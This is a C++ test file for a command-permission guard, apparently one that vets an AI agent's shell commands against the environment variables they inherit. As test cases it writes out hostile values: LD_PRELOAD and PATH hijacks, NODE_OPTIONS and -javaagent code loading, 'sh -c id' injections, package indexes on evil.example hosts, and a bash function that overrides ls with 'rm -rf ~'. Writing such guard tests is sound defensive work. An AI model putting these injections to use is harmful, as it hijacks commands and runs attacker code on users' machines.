// The variables a command inherits from the agent, through the default
// policy as a user's call meets it: a program's ordinary-work allow goes
// when something it inherits changes what it runs, what it loads, which
// options it takes or which file its name finds; everyday environments keep
// it. The environment is set per test with InheritedEnvironmentScope (every
// other unit test judges as a clean agent: see the registration at the end),
// and tests/e2e/check_test.cpp runs the real binary with a real environment.
#include "commands/inherited_environment.hpp"

#include <gtest/gtest.h>

#include <optional>
#include <string>
#include <vector>

#include "support/default_verdict.hpp"

namespace toolguard {
namespace inherited_environment_test {

using detail::cleanInheritedEnvironment;
using detail::InheritedEnvironmentScope;

// The verdict on `command` when the agent's environment is a clean one plus
// `variables`.
Verdict verdictWith(const std::vector<std::string>& variables, const std::string& command) {
  std::vector<std::string> environment = cleanInheritedEnvironment();
  environment.insert(environment.end(), variables.begin(), variables.end());
  const InheritedEnvironmentScope scope(std::move(environment));
  return test_support::defaultVerdictOf(command);
}

// Everyday commands the default policy allows in a clean environment.
const std::vector<std::string> kEverydayCommands = {"ls -la",
                                                    "git status",
                                                    "git diff",
                                                    "pytest -q",
                                                    "make -j4",
                                                    "npm test",
                                                    "cargo test",
                                                    "go test ./...",
                                                    "tox -e py312",
                                                    "grep -rn TODO src",
                                                    "pip install -r requirements.txt",
                                                    "cat README.md",
                                                    "npm ci",
                                                    "tar -tf a.tar",
                                                    "./gradlew test"};

TEST(InheritedEnvironment, EverydayCommandsAreAllowedInACleanEnvironment) {
  for (const std::string& command : kEverydayCommands) {
    EXPECT_EQ(verdictWith({}, command), Verdict::Allow) << command;
  }
}

// An everyday desktop, terminal and toolchain environment changes nothing.
TEST(InheritedEnvironment, EverydayEnvironmentsKeepTheAllow) {
  const std::vector<std::string> everyday = {
      "HOME=/home/me",
      "USER=me",
      "SHELL=/bin/bash",
      "EDITOR=vim",
      "VISUAL=code --wait",
      "PAGER=less",
      "LS_COLORS=rs=0:di=01;34:ln=01;36:*.tar=01;31",
      "GREP_COLORS=ms=01;31:mc=01;31",
      "SSH_AUTH_SOCK=/tmp/ssh-XXXXabc/agent.123",
      "DISPLAY=:0",
      "XDG_RUNTIME_DIR=/run/user/1000",
      "XDG_CONFIG_HOME=/home/me/.config",
      "LANG=en_US.UTF-8",
      "JAVA_HOME=/usr/lib/jvm/java-17-openjdk-amd64",
      "GOPATH=/home/me/go",
      "CARGO_HOME=/home/me/.cargo",
      "NODE_OPTIONS=--max-old-space-size=4096",
      "MAKEFLAGS=-j8",
      "PIP_DEFAULT_TIMEOUT=60",
      "PIP_CERT=/etc/ssl/certs/ca-certificates.crt",
      "GIT_SSL_CAINFO=/etc/ssl/certs/ca-certificates.crt",
      "NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt",
      "GIT_AUTHOR_NAME=Jane Q. Doe",
      "https_proxy=http://proxy.corp.example:3128",
      "TMPDIR=/tmp",
      "PATH=/home/me/.cargo/bin:/home/me/go/bin:/workspace/.venv/bin:/usr/local/bin:/usr/bin:/bin",
      "JAVA_TOOL_OPTIONS=-Xmx2g -XX:+UseG1GC -Dfile.encoding=UTF-8",
  };
  for (const std::string& command : kEverydayCommands) {
    EXPECT_EQ(verdictWith(everyday, command), Verdict::Allow) << command;
  }
}

// Variables every program may read (the loader's, the runtimes', bash's),
// given a place the model can write: relative (where the command runs), a
// temp directory, the workspace. Never allowed, for any everyday command.
TEST(InheritedEnvironment, CodeFromPlacesTheModelCanWriteIsNeverAllowed) {
  const std::vector<std::string> names = {
      "LD_PRELOAD",      "LD_AUDIT",        "LD_LIBRARY_PATH", "BASH_ENV",  "PYTHONHOME",
      "NODE_PATH",       "PERL5LIB",        "RUBYLIB",         "CLASSPATH", "GCONV_PATH",
      "XDG_CONFIG_HOME", "XDG_CONFIG_DIRS", "PYTHONSTARTUP"};
  const std::vector<std::string> places = {"evil.so",
                                           "./lib",
                                           ".",
                                           "lib:/usr/lib",
                                           "/usr/lib::",
                                           "/tmp/x",
                                           "/var/tmp/x.so",
                                           "/dev/shm/x",
                                           "/workspace/lib",
                                           "/usr/lib/../../workspace/x",
                                           "/usr/lib:/workspace"};
  for (const std::string& name : names) {
    for (const std::string& place : places) {
      for (const char* command : {"ls -la", "git status", "pytest -q"}) {
        EXPECT_NE(verdictWith({name + "=" + place}, command), Verdict::Allow)
            << name << "=" << place << " " << command;
      }
    }
    // The same variable naming system places keeps the allow.
    EXPECT_EQ(verdictWith({name + "=/usr/lib/x86_64-linux-gnu:/opt/lib"}, "ls -la"), Verdict::Allow)
        << name;
  }
}

// Options and code in variables: a program's own (its name in capitals) and
// everyone's runtime options. Never allowed unless the words are options the
// program's table knows.
TEST(InheritedEnvironment, OptionsInVariablesMeetTheTables) {
  struct Case {
    std::string variable;
    std::string command;
  };
  const std::vector<Case> asked = {
      {"PYTEST_ADDOPTS=-p evil", "pytest -q"},
      {"PYTEST_ADDOPTS=--rootdir=/tmp -c /tmp/x.ini", "pytest -q"},
      {"PYTEST_ADDOPTS=-pevil", "pytest -q"},
      {"MAKEFLAGS=--eval=all:;id", "make -j4"},
      {"MAKEFLAGS=-f /tmp/evil.mk", "make -j4"},
      {"MAKEFLAGS=-j2 -- CC=./cc", "make -j4"},
      {"MFLAGS=-I /tmp", "make -j4"},
      {"NODE_OPTIONS=--require ./x.js", "npm test"},
      {"NODE_OPTIONS=-r x", "npm test"},
      {"NODE_OPTIONS=--import=data:text/javascript,1", "ls -la"},
      {"NODE_OPTIONS=--loader ./l.mjs", "git status"},
      {"JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar", "ls -la"},
      {"_JAVA_OPTIONS=-Dx=$(id)", "ls -la"},
      {"PERL5OPT=-Mevil", "git status"},
      {"RUBYOPT=-revil", "ls -la"},
      {"LUA_INIT=os.execute('id')", "ls -la"},
      {"PYTHONBREAKPOINT=evil.hook", "pytest -q"},
      {"PYTHONWARNINGS=ignore::evil.Warning", "pytest -q"},
      {"GIT_CONFIG_COUNT=1", "git status"},
      {"GIT_CONFIG_KEY_0=core.fsmonitor", "git status"},
      {"GIT_CONFIG_PARAMETERS='core.pager=id'", "git diff"},
      {"TAR_OPTIONS=--to-command=id", "tar -tf a.tar"},
      {"GRADLE_OPTS=-javaagent:x.jar", "./gradlew test"},
      {"TOX_OVERRIDE=testenv.commands=id", "tox -e py312"},
      {"CARGO_TARGET_DIR=/tmp/t", "cargo test"},
      {"RUSTFLAGS=-C linker=/tmp/ld", "cargo test"},
      {"GOFLAGS=-toolexec=/tmp/x", "go test ./..."},
      {"CGO_CFLAGS=-fplugin=/tmp/p.so", "go test ./..."},
      {"PIP_INDEX_URL=https://pypi.evil.example/simple", "pip install -r requirements.txt"},
      {"PIP_EXTRA_INDEX_URL=https://x.example", "pip install -r requirements.txt"},
      {"npm_config_registry=https://registry.evil.example", "npm ci"},
      {"NPM_CONFIG_USERCONFIG=./npmrc", "npm ci"},
      {"npm_config_script_shell=./sh", "npm test"},
      {"GIT_DIR=/tmp/repo", "git status"},
      {"GIT_EXEC_PATH=./bin", "git status"},
      {"GIT_EXTERNAL_DIFF=./diff.sh", "git diff"},
      {"GIT_SSH_COMMAND=sh -c id", "git status"},
      {"EDITOR=./ed.sh", "git status"},
      {"VISUAL=/tmp/ed", "git status"},
      {"PAGER=less; id", "git diff"},
      {"SHELL=./sh", "make -j4"},
  };
  for (const Case& c : asked) {
    EXPECT_NE(verdictWith({c.variable}, c.command), Verdict::Allow)
        << c.variable << " " << c.command;
  }
  const std::vector<Case> allowed = {
      {"PYTEST_ADDOPTS=-x -q", "pytest -q"},
      {"MAKEFLAGS=ks -j4 --jobserver-auth=fifo:/tmp/GMfifo123", "make -j4"},
      {"MAKEFLAGS= --no-print-directory", "make -j4"},
      {"NODE_OPTIONS=--enable-source-maps --no-warnings", "npm test"},
      {"GIT_CONFIG_COUNT=0", "git status"},
      {"PYTHONWARNINGS=ignore::DeprecationWarning", "pytest -q"},
      {"EDITOR=/usr/bin/nvim", "git status"},
      {"GIT_SSH_COMMAND=ssh -i ~/.ssh/deploy -o IdentitiesOnly=yes", "git status"},
      // A program's variable does not reach another program.
      {"PYTEST_ADDOPTS=-p evil", "ls -la"},
      {"TOX_OVERRIDE=testenv.commands=id", "pytest -q"},
      {"PIP_INDEX_URL=https://pypi.evil.example/simple", "git status"},
  };
  for (const Case& c : allowed) {
    EXPECT_EQ(verdictWith({c.variable}, c.command), Verdict::Allow)
        << c.variable << " " << c.command;
  }
}

// A program-prefixed variable is generated for every everyday program:
// whatever its suffix, a value that carries options, a URL or a place the
// model can write takes the allow away.
TEST(InheritedEnvironment, EveryProgramsOwnVariablesAreJudged) {
  const std::vector<std::pair<std::string, std::string>> programs = {
      {"GIT", "git status"},
      {"PYTEST", "pytest -q"},
      {"MAKE", "make -j4"},
      {"NPM", "npm test"},
      {"npm", "npm ci"},
      {"CARGO", "cargo test"},
      {"GO", "go test ./..."},
      {"TOX", "tox -e py312"},
      {"PIP", "pip install -r requirements.txt"},
      {"GREP", "grep -rn TODO src"},
      {"LS", "ls -la"},
      {"CAT", "cat README.md"}};
  const std::vector<std::string> suffixes = {"_OPTS",    "_OPTIONS", "_FLAGS", "_CONFIG",
                                             "_HOOK",    "_PLUGIN",  "_X",     "_CONFIG_FILE",
                                             "_COMMAND", "_URL",     ""};
  const std::vector<std::string> values = {"--evil",  "-x evil", "https://evil.example/x",
                                           "./local", "/tmp/x",  "/workspace/x",
                                           "a ./b",   "$(id)",   "x;id"};
  for (const auto& [prefix, command] : programs) {
    for (const std::string& suffix : suffixes) {
      for (const std::string& value : values) {
        const std::string variable = prefix + suffix + "=" + value;
        EXPECT_NE(verdictWith({variable}, command), Verdict::Allow) << variable << " " << command;
      }
    }
  }
  // Programs that glue their names on (MAKEFLAGS, GOFLAGS, GOPATH): any
  // ending; other programs' names are theirs only before `_`.
  for (const auto& [variable, command] : std::vector<std::pair<std::string, std::string>>{
           {"MAKEFLAGS=--evil", "make -j4"},
           {"MAKEFILES=./x.mk", "make -j4"},
           {"GOFLAGS=-toolexec=./x", "go test ./..."},
           {"GOENV=go.env", "go test ./..."},
           {"GOEXPERIMENT=x y", "go test ./..."},
           {"PIPX=./x", "pip install -r requirements.txt"}}) {
    EXPECT_NE(verdictWith({variable}, command), Verdict::Allow) << variable << " " << command;
  }
  EXPECT_EQ(verdictWith({"GITHUB_WORKSPACE=/workspace"}, "git status"), Verdict::Allow);
  EXPECT_EQ(verdictWith({"CATALINA_OPTS=--x ./y"}, "cat README.md"), Verdict::Allow);
}

// What a name runs: PATH entries the model can write before the system's,
// and exported bash functions.
TEST(InheritedEnvironment, PathAndExportedFunctionsDecideWhatANameRuns) {
  const std::string system = "/usr/local/bin:/usr/bin:/bin";
  for (const std::string& front :
       {std::string(""), std::string("."), std::string("bin"), std::string("./node_modules/.bin"),
        std::string("/tmp/bin"), std::string("/workspace/bin"), std::string("/workspace"),
        std::string("/workspace/scripts/../bin")}) {
    for (const char* command : {"ls -la", "git status", "make -j4", "cat README.md"}) {
      EXPECT_NE(verdictWith({"PATH=" + front + ":" + system}, command), Verdict::Allow)
          << "PATH=" << front << ":... " << command;
    }
  }
  // A virtual environment's programs are judged by name, as `.venv/bin/pip` is.
  EXPECT_EQ(verdictWith({"PATH=/workspace/.venv/bin:" + system}, "ls -la"), Verdict::Allow);
  // An entry the model can write after the one that has the program is never reached.
  EXPECT_EQ(verdictWith({"PATH=/usr/bin:/bin:."}, "ls -la"), Verdict::Allow);
  // The same name spelled as a path does not look PATH up.
  EXPECT_EQ(verdictWith({"PATH=.:" + system}, "/usr/bin/ls -la"), Verdict::Allow);
  // Builtins start no program.
  EXPECT_EQ(verdictWith({"PATH=.:" + system}, "echo hi"), Verdict::Allow);

  EXPECT_NE(verdictWith({"BASH_FUNC_ls%%=() {  rm -rf ~\n}"}, "ls -la"), Verdict::Allow);
  EXPECT_NE(verdictWith({"BASH_FUNC_git%%=() {  id\n}"}, "git status"), Verdict::Allow);
  EXPECT_EQ(verdictWith({"BASH_FUNC_ls%%=() {  id\n}"}, "cat README.md"), Verdict::Allow);
}

// PATH is judged once per call, not once per command: an entry in one
// call's workspace is still seen by the next call there after a call from
// elsewhere, and every command of a program is judged by it.
TEST(InheritedEnvironment, PathIsJudgedForEachCallsOwnWorkspace) {
  std::vector<std::string> environment = {"PATH=/workspace/bin:/usr/local/bin:/usr/bin:/bin"};
  const InheritedEnvironmentScope scope(std::move(environment));
  for (int round = 0; round < 2; ++round) {
    EXPECT_NE(test_support::defaultVerdictOf("ls -la", "/workspace"), Verdict::Allow) << round;
    EXPECT_EQ(test_support::defaultVerdictOf("ls -la", "/elsewhere"), Verdict::Allow) << round;
    EXPECT_NE(test_support::defaultVerdictOf("cat a.txt && ls -la && git status", "/workspace"),
              Verdict::Allow)
        << round;
    EXPECT_NE(test_support::defaultVerdictOf("echo hi; git status", "/workspace"), Verdict::Allow)
        << round;
    EXPECT_EQ(test_support::defaultVerdictOf("cat a.txt && ls -la", "/elsewhere/sub"),
              Verdict::Allow)
        << round;
  }
}

// What an attacker's review found, and what everyday environments set.
TEST(InheritedEnvironment, ReviewedSpellingsAndEverydaySettings) {
  struct Case {
    std::vector<std::string> variables;
    std::string command;
    bool allowed;
  };
  const std::string system = "/usr/local/bin:/usr/bin:/bin";
  const std::vector<Case> cases = {
      // A virtual environment's bin in a temp directory is anyone's.
      {{"PATH=/var/tmp/x/venv/bin:" + system}, "ls -la", false},
      {{"PATH=/dev/shm/.venv/bin:" + system}, "ls -la", false},
      {{"TMPDIR=/scratch", "PATH=/scratch/venv/bin:" + system}, "ls -la", false},
      // Wrappers are looked up too, and functions shadow builtins.
      {{"BASH_FUNC_timeout%%=() {  id\n}"}, "timeout 5 ls", false},
      {{"BASH_FUNC_echo%%=() {  id\n}"}, "echo hi", false},
      {{"BASH_FUNC_nice%%=() {  id\n}"}, "nice -n 5 ls", false},
      {{"PATH=/usr/local/bin:/workspace/bin:/usr/bin:/bin"}, "timeout 5 ls", false},
      // Modules run by python -m read their variables.
      {{"PYTEST_ADDOPTS=-p x"}, "python3 -m pytest -q", false},
      {{"PIP_INDEX_URL=https://evil.example/simple"},
       "python3 -m pip install -r requirements.txt",
       false},
      {{"RIPGREP_CONFIG_PATH=.ripgreprc"}, "rg foo", false},
      {{"SSH_ASKPASS=/workspace/askpass"}, "git status", false},
      {{"PYTHONPATH=."}, "pip --version", false},
      {{"PYTHONPATH=src"}, "black --check x.py", false},
      {{"LESSOPEN=/bin/sh -c \"id\" %s"}, "less README.md", false},
      {{"LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libm.so.6 /tmp/evil.so"}, "ls -la", false},
      {{"GIT_SSH_COMMAND=ssh -F sshcfg"}, "git status", false},
      {{"GOENV=go.env"}, "go vet ./...", false},
      {{"LD_PRELOAD=//tmp/x.so"}, "ls -la", false},
      {{"LD_PRELOAD=/./tmp/x.so"}, "ls -la", false},
      {{"PATH=//tmp/bin:" + system}, "ls -la", false},
      {{"PATH=/usr/../tmp/bin:" + system}, "ls -la", false},
      {{"PATH=//workspace/bin:" + system}, "ls -la", false},
      {{"PYTEST_ADDOPTS=--basetemp=/root/.ssh"}, "pytest -q", false},
      {{"PYTEST_ADDOPTS=--junitxml=/root/.bashrc"}, "pytest -q", false},
      {{"PYTEST_ADDOPTS=--rootdir=."}, "pytest -q; cd /tmp/evil && pytest -q", false},
      // Everyday settings keep ordinary work allowed.
      {{"MANPAGER=sh -c 'col -bx | bat -l man -p'"}, "ls -la", true},
      {{"VISUAL=emacsclient -c -a \"\""}, "ls -la", true},
      {{"PYTHON_GET_PIP_URL=https://github.com/pypa/get-pip/raw/x/get-pip.py"}, "ls -la", true},
      {{"LESSOPEN=| /usr/bin/lesspipe %s", "LESSCLOSE=/usr/bin/lesspipe %s %s"}, "ls -la", true},
      {{"GOFLAGS=-mod=mod"}, "go test ./...", true},
      {{"GOPRIVATE=github.com/acme/*"}, "go test ./...", true},
      {{"EDITOR=vim"}, "git status", true},
  };
  for (const Case& c : cases) {
    std::string shown;
    for (const std::string& v : c.variables) shown += v + " ";
    if (c.allowed) {
      EXPECT_EQ(verdictWith(c.variables, c.command), Verdict::Allow) << shown << c.command;
    } else {
      EXPECT_NE(verdictWith(c.variables, c.command), Verdict::Allow) << shown << c.command;
    }
  }
}

// Every other unit test judges as a clean agent, whatever the machine that
// runs it exports (a CI runner's TOX_OVERRIDE must not change a verdict).
class CleanAgentEnvironment : public ::testing::Environment {
 public:
  void SetUp() override { scope_.emplace(cleanInheritedEnvironment()); }
  void TearDown() override { scope_.reset(); }

 private:
  std::optional<InheritedEnvironmentScope> scope_;
};

const ::testing::Environment* const kCleanAgentEnvironment =
    ::testing::AddGlobalTestEnvironment(new CleanAgentEnvironment);

}  // namespace inherited_environment_test
}  // namespace toolguard
